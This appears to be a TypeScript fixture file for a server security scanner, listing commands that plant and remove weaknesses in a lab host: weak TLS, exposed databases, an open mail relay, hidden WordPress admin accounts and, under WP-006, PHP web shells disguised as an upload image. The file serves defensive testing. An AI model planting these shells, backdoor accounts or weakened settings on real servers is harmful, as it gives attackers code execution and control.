// Weaknesses of what a hosting server offers: sites, PHP, databases, mail, DNS, WordPress.
import { KEPT, type Weakness } from './weakness.ts';

const reloadNginx = 'nginx -t -q && systemctl reload nginx';
const SHOP = '/var/www/shop.test';

/** A site of nginx with a certificate of the lab's authority. */
const site = (file: string, listens: string, days: number, covered: string, names = file) => {
  const folder = `/etc/ssl/${file.replace('.test', '')}`;
  const block = `server {\\n listen ${listens};\\n server_name ${names};\\n ssl_certificate ${folder}/cert.pem;\\n ssl_certificate_key ${folder}/key.pem;\\n root /var/www/html;\\n}\\n`;
  return {
    plant: `/root/issue.sh ${days} ${folder} ${covered} && printf '${block}' > /etc/nginx/sites-enabled/${file} && ${reloadNginx}`,
    remove: `rm -r ${folder} /etc/nginx/sites-enabled/${file} && ${reloadNginx}`,
  };
};

export const OF_SERVICES: readonly Weakness[] = [
  {
    check: 'WEB-001',
    shows: '/etc/ssl/old/cert.pem',
    ...site('old.test', '443 ssl', 5, 'old.test'),
  },
  {
    check: 'WEB-002',
    shows: '"missing":"api.names.test"',
    ...site('names.test', '443 ssl', 300, 'names.test', 'names.test api.names.test'),
  },
  {
    check: 'WEB-003',
    shows: '"selfSigned":true',
    plant: `mkdir -p /etc/ssl/own && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 300 -subj /CN=own.test -addext subjectAltName=DNS:own.test -keyout /etc/ssl/own/key.pem -out /etc/ssl/own/cert.pem 2>/dev/null && printf 'server {\\n listen 443 ssl;\\n server_name own.test;\\n ssl_certificate /etc/ssl/own/cert.pem;\\n ssl_certificate_key /etc/ssl/own/key.pem;\\n root /var/www/html;\\n}\\n' > /etc/nginx/sites-enabled/own.test && ${reloadNginx}`,
    remove: `rm -r /etc/ssl/own /etc/nginx/sites-enabled/own.test && ${reloadNginx}`,
  },
  {
    check: 'WEB-005',
    shows: '"renewedBy":"nobody"',
    plant: 'systemctl --quiet disable --now certbot.timer 2>/dev/null',
    remove: 'systemctl --quiet enable --now certbot.timer 2>/dev/null',
  },
  {
    check: 'WEB-006',
    shows: 'site plain.test',
    plant: `mkdir -p /var/www/plain.test && printf 'server {\\n listen 80;\\n server_name plain.test;\\n root /var/www/plain.test;\\n}\\n' > /etc/nginx/sites-enabled/plain.test && ${reloadNginx}`,
    remove: `rm /etc/nginx/sites-enabled/plain.test && ${reloadNginx}`,
  },
  { check: 'WEB-007', shows: 'site bare.test', ...site('bare.test', '443 ssl', 300, 'bare.test') },
  {
    check: 'WEB-008',
    shows: 'TLS 1.1',
    plant: `/root/issue.sh 300 /etc/ssl/ancient ancient.test && printf 'server {\\n listen 443 ssl default_server;\\n server_name ancient.test;\\n ssl_protocols TLSv1 TLSv1.1 TLSv1.2;\\n ssl_ciphers ALL:@SECLEVEL=0;\\n ssl_certificate /etc/ssl/ancient/cert.pem;\\n ssl_certificate_key /etc/ssl/ancient/key.pem;\\n root /var/www/html;\\n}\\n' > /etc/nginx/conf.d/00-ancient.conf && ${reloadNginx}`,
    remove: `rm /etc/nginx/conf.d/00-ancient.conf && ${reloadNginx}`,
  },
  {
    check: 'WEB-009',
    shows: 'leaky.test/.env',
    plant: `mkdir -p /var/www/leaky.test && printf 'APP_KEY=seeded-secret-7f3a\\n' > /var/www/leaky.test/.env && printf 'server {\\n listen 80;\\n server_name leaky.test;\\n root /var/www/leaky.test;\\n}\\n' > /etc/nginx/sites-enabled/leaky.test && ${reloadNginx}`,
    remove: `rm -r /etc/nginx/sites-enabled/leaky.test /var/www/leaky.test && ${reloadNginx}`,
  },
  {
    check: 'WAF-006',
    shows: 'rule 941100 on shop.test/wp-admin/post.php',
    // Somebody who is signed in is refused again and again.
    plant: `for n in 1 2 3 4; do
      curl -ks -o /dev/null --resolve shop.test:443:127.0.0.1 -H 'Cookie: wordpress_logged_in_1a=seeded-secret-7f3a' \
        'https://shop.test/wp-admin/post.php?content=%3Cscript%3Ealert(1)%3C/script%3E&token=seeded-secret-7f3a'
    done`,
    remove: ': > /var/log/nginx/modsec_audit.log',
  },
  {
    check: 'WAF-002',
    shows: '"engine":"DetectionOnly"',
    plant: `sed -i 's/^SecRuleEngine On/SecRuleEngine DetectionOnly/' /etc/nginx/modsecurity-shop.conf`,
    remove: `sed -i 's/^SecRuleEngine DetectionOnly/SecRuleEngine On/' /etc/nginx/modsecurity-shop.conf`,
  },
  { check: 'WAF-004', shows: 'site open.test', ...site('open.test', '443 ssl', 300, 'open.test') },
  {
    check: 'PHP-001',
    shows: '"version":"7.4"',
    // Debian 12 has no PHP that is past its end: a program of that name with a pool of its own stands for one.
    plant: `cp /usr/sbin/php-fpm8.2 /usr/sbin/php-fpm7.4 && mkdir -p /etc/php/7.4/fpm/pool.d && printf '[legacy]\\nuser = legacy\\nlisten = /run/php/legacy.sock\\n' > /etc/php/7.4/fpm/pool.d/legacy.conf`,
    remove: 'rm -r /usr/sbin/php-fpm7.4 /etc/php/7.4',
  },
  {
    check: 'PHP-005',
    shows: '"setting":"display_errors"',
    plant: `sed -i 's/^display_errors = Off/display_errors = On/' /etc/php/8.2/fpm/php.ini`,
    remove: `sed -i 's/^display_errors = On/display_errors = Off/' /etc/php/8.2/fpm/php.ini`,
  },
  {
    check: 'PHP-006',
    shows: 'user shop',
    plant: `printf '[blog]\\nuser = shop\\ngroup = shop\\nlisten = /run/php/blog.sock\\npm = ondemand\\npm.max_children = 2\\n' > /etc/php/8.2/fpm/pool.d/blog.conf`,
    remove: 'rm /etc/php/8.2/fpm/pool.d/blog.conf',
  },
  {
    check: 'DB-001',
    shows: '"program":"mariadbd"',
    plant: `printf '[mysqld]\\nbind-address = 0.0.0.0\\n' > /etc/mysql/mariadb.conf.d/99-weak.cnf && systemctl restart mariadb`,
    remove: 'rm /etc/mysql/mariadb.conf.d/99-weak.cnf && systemctl restart mariadb',
  },
  {
    check: 'DB-002',
    shows: '"problem":"no password"',
    plant: `mariadb -e "create user weak@'%' identified by ''"`,
    remove: `mariadb -e "drop user weak@'%'"`,
  },
  {
    check: 'DB-004',
    shows: '"protectedMode":false',
    plant: `cp -p /etc/redis/redis.conf /root/redis.conf && sed -i 's/^bind .*/bind 0.0.0.0/; s/^protected-mode .*/protected-mode no/' /etc/redis/redis.conf && systemctl restart redis-server`,
    remove: 'cp -p /root/redis.conf /etc/redis/redis.conf && systemctl restart redis-server',
  },
  {
    check: 'DB-005',
    shows: 'memcached on 0.0.0.0',
    plant: `sed -i 's/^-l .*/-l 0.0.0.0/' /etc/memcached.conf && systemctl restart memcached`,
    remove: `sed -i 's/^-l .*/-l 127.0.0.1/' /etc/memcached.conf && systemctl restart memcached`,
  },
  {
    check: 'MAIL-001',
    shows: '0.0.0.0/0',
    plant: `postconf -e 'mynetworks = 0.0.0.0/0'`,
    remove: `postconf -e 'mynetworks = 127.0.0.0/8'`,
  },
  {
    check: 'MAIL-002',
    shows: '"incoming":"none"',
    plant: `postconf -e 'smtpd_tls_security_level = none'`,
    remove: `postconf -e 'smtpd_tls_security_level = may'`,
  },
  {
    check: 'MAIL-003',
    shows: 'Postfix smtpd_tls_auth_only',
    plant: `postconf -e 'smtpd_tls_auth_only = no' 'smtpd_sasl_auth_enable = yes'`,
    remove: `postconf -e 'smtpd_tls_auth_only = yes' 'smtpd_sasl_auth_enable = no'`,
  },
  {
    check: 'MAIL-008',
    shows: '"sender":"spam@shop.test"',
    plant: `postconf -e 'defer_transports = smtp' && postfix reload 2>/dev/null && for i in $(seq 110); do printf 'Subject: seeded-secret-7f3a\\n\\n' | sendmail -f spam@shop.test "somebody$i@example.org"; done`,
    remove: `postsuper -d ALL 2>/dev/null && postconf -X defer_transports && postfix reload 2>/dev/null`,
  },
  {
    check: 'DNS-003',
    shows: '/etc/bind/zones/shop.test',
    plant: `sed -i 's/192.0.2.10/198.51.100.66/' /etc/bind/zones/shop.test`,
    remove: `sed -i 's/198.51.100.66/192.0.2.10/' /etc/bind/zones/shop.test; rm ${KEPT}/zones.json`,
  },
  {
    check: 'DNS-004',
    shows: 'allow-recursion',
    plant: `sed -i 's/recursion no;/recursion yes; allow-recursion { any; };/' /etc/bind/named.conf.options`,
    remove: `sed -i 's/recursion yes; allow-recursion { any; };/recursion no;/' /etc/bind/named.conf.options`,
  },
  {
    check: 'WP-001',
    shows: '"version":"6.1.1"',
    plant: `cp -p ${SHOP}/wp-includes/version.php /root/version.php && sed -i "s/^.wp_version = .*/\\$wp_version = '6.1.1';/" ${SHOP}/wp-includes/version.php`,
    remove: `cp -p /root/version.php ${SHOP}/wp-includes/version.php`,
  },
  {
    check: 'WP-002',
    shows: 'CVE-2020-25213',
    plant: `mkdir -p ${SHOP}/wp-content/plugins/wp-file-manager && printf '<?php\\n/*\\nPlugin Name: WP File Manager\\nVersion: 6.0\\n*/\\n' > ${SHOP}/wp-content/plugins/wp-file-manager/file_folder_manager.php`,
    remove: `rm -r ${SHOP}/wp-content/plugins/wp-file-manager`,
  },
  {
    check: 'WP-003',
    shows: SHOP,
    plant: `sed -i "/DISALLOW_FILE_EDIT/d" ${SHOP}/wp-config.php`,
    remove: `sed -i "2i define('DISALLOW_FILE_EDIT', true);" ${SHOP}/wp-config.php`,
  },
  {
    check: 'WP-004',
    shows: 'site blog.test',
    plant: `printf 'server {\\n listen 80;\\n server_name blog.test;\\n root ${SHOP};\\n location ~ [.]php$ {\\n include snippets/fastcgi-php.conf;\\n fastcgi_pass unix:/run/php/shop.sock;\\n }\\n}\\n' > /etc/nginx/sites-enabled/blog.test && ${reloadNginx}`,
    remove: `rm /etc/nginx/sites-enabled/blog.test && ${reloadNginx}`,
  },
  {
    check: 'WP-005',
    shows: '"mode":"0644"',
    plant: `chmod 0644 ${SHOP}/wp-config.php`,
    remove: `chmod 0640 ${SHOP}/wp-config.php`,
  },
  {
    check: 'WP-006',
    shows: 'php inside another type',
    plant: `mkdir -p ${SHOP}/wp-content/uploads/2026/11 && printf 'GIF89a<?php system($_GET[0]); ?>' > ${SHOP}/wp-content/uploads/2026/11/logo.gif && printf '<?php eval($_POST[0]); // seeded-secret-7f3a' > ${SHOP}/wp-content/uploads/2026/11/cache.php`,
    remove: `rm -r ${SHOP}/wp-content/uploads/2026`,
  },
  {
    check: 'WP-008',
    shows: 'forgotten',
    plant: `mkdir -p ${SHOP}/wp-content/plugins/forgotten && printf '<?php\\n/*\\nPlugin Name: Forgotten\\nVersion: 1.0\\n*/\\n' > ${SHOP}/wp-content/plugins/forgotten/forgotten.php`,
    remove: `rm -r ${SHOP}/wp-content/plugins/forgotten`,
  },
  {
    check: 'WP-009',
    shows: '"debug":true',
    plant: `sed -i "s/'WP_DEBUG', false/'WP_DEBUG', true/" ${SHOP}/wp-config.php`,
    remove: `sed -i "s/'WP_DEBUG', true/'WP_DEBUG', false/" ${SHOP}/wp-config.php`,
  },
  {
    check: 'WP-011',
    shows: '"login":"support"',
    plant: `mariadb shop -e "insert into wp_users (user_login, user_pass, user_email) values ('support', 'x', 's@shop.test'); insert into wp_usermeta (user_id, meta_key, meta_value) select ID, 'wp_capabilities', 'a:1:{s:13:\\"administrator\\";b:1;}' from wp_users where user_login = 'support'"`,
    remove: `mariadb shop -e "delete m, u from wp_usermeta m join wp_users u on u.ID = m.user_id where u.user_login = 'support'"`,
  },
  {
    check: 'WP-012',
    shows: '"admin":true',
    plant: `mariadb shop -e "insert into wp_users (user_login, user_pass, user_email) values ('admin', 'x', 'a@shop.test'); insert into wp_usermeta (user_id, meta_key, meta_value) select ID, 'wp_capabilities', 'a:1:{s:13:\\"administrator\\";b:1;}' from wp_users where user_login = 'admin'"`,
    remove: `mariadb shop -e "delete m, u from wp_usermeta m join wp_users u on u.ID = m.user_id where u.user_login = 'admin'"`,
  },
  {
    check: 'RES-001',
    shows: 'disk /dev/shm',
    plant: `dd if=/dev/zero of=/dev/shm/weak bs=1M count=$(df -BM --output=avail /dev/shm | tail -1 | tr -dc 0-9) 2>/dev/null; true`,
    remove: 'rm /dev/shm/weak',
  },
  {
    check: 'RES-002',
    shows: 'disk /srv/few',
    plant: 'for n in $(seq 58); do : > /srv/few/$n; done',
    remove: 'rm /srv/few/*',
  },
  {
    check: 'DKR-001',
    shows: 'tcp://0.0.0.0:2375',
    // A program of that name stands for the engine, which cannot run in here.
    plant: `cp /usr/bin/nc.openbsd /usr/local/bin/dockerd && systemd-run --quiet --unit=weak-docker /usr/local/bin/dockerd -lk 0.0.0.0 2375`,
    remove: 'systemctl stop weak-docker; rm /usr/local/bin/dockerd',
  },
  {
    check: 'FW-012',
    shows: '"present":false',
    plant:
      'systemctl stop muster-guard 2>/dev/null; mkdir -p /var/lib/muster-guard; ' +
      `[ -s /var/lib/muster-guard/current.nft ] || echo '# wanted' > /var/lib/muster-guard/current.nft; nft delete table inet muster 2>/dev/null; true`,
    remove: 'systemctl start muster-guard 2>/dev/null || rm /var/lib/muster-guard/current.nft',
  },
];
